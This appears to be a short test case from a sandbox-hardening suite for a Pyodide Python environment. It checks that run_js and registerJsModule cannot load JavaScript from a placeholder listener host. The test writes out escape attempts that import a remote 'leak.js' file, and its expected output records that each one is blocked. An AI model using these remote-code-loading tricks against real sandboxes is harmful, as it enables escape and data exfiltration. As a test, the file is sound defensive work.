# outcome: ok
# with: door
# prints: held: run_js: 
# prints: held: registerJsModule leads nowhere
# import() is syntax and needs code from text; every door to that is shut, and the one function that takes it too.
import pyodide.code, pyodide_js
await door("run_js", lambda: pyodide.code.run_js("import('http://{listener}/leak.js')"))
try:
    pyodide_js.registerJsModule("planted", obj(__file__="http://{listener}/leak.js"))
    import planted
    print("held: registerJsModule leads nowhere", type(planted).__name__)
except HELD as error:
    print("held: registerJsModule leads nowhere", error)
